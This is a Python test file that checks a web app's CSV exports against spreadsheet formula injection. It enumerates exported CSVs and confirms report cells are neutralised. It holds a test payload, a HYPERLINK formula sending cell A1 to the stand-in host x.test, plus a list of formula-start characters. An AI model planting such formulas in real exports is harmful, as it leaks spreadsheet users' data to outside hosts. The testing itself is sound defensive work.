"""CSV injection: no cell of a CSV the app hands out starts a spreadsheet formula.

The app produces two CSVs: the monthly report (``/clients/<id>/report.csv``), whose
cells are neutralised by ``_cell`` in companion/web/team/report.py (a leading ``'``),
and the import template, whose content is fixed. The walk below finds every CSV among
the GET pages, so a new export fails here until it is probed. The audit log has no
CSV export; the CSV import reads cells as plain text and never evaluates them
(tests/test_import.py), and the place it stores is shown escaped (test_xss.py).
"""

from __future__ import annotations

import csv
import io

from companion.extensions import db

from helpers import OFFICER_PHONE, PROVIDER_PHONE, sign_in
from probe_world import caseload

# What Excel, LibreOffice and Google Sheets read as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
KNOWN_CSVS = {"team.report_csv", "imports.template"}


def cells(response) -> list[str]:
    text = response.get_data(as_text=True).removeprefix("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_is_known_and_a_formula_in_a_name_stays_text(app):
    team = caseload("a", (PROVIDER_PHONE, OFFICER_PHONE, "+12135550186"), "+12135550120")
    web = sign_in(app, team.provider)
    values = {
        "client_id": team.client.id,
        "appointment_id": team.appointment.id,
        "escalation_id": team.escalation.id,
        "number": 1,
    }
    found = set()
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or not rule.arguments <= set(values):
            continue
        response = web.get(rule.build({a: values[a] for a in rule.arguments})[1])
        if response.mimetype == "text/csv":
            found.add(rule.endpoint)
    assert found == KNOWN_CSVS, "a new CSV: probe its cells here"

    # The template holds only its fixed examples, never anything from the database.
    template = web.get("/appointments/import/template.csv")
    assert team.client.display_name not in template.get_data(as_text=True)

    # The report carries the client's name: whatever it starts with, it stays text.
    report = f"/clients/{team.client.id}/report.csv"
    for start in FORMULA_STARTS:
        name = f'{start}HYPERLINK("http://x.test/?"&A1,"open")'
        team.client.display_name = name
        db.session.commit()
        found_cells = cells(web.get(report))
        assert "'" + name in found_cells, repr(start)
        assert [c for c in found_cells if c.startswith(FORMULA_STARTS)] == [], repr(start)
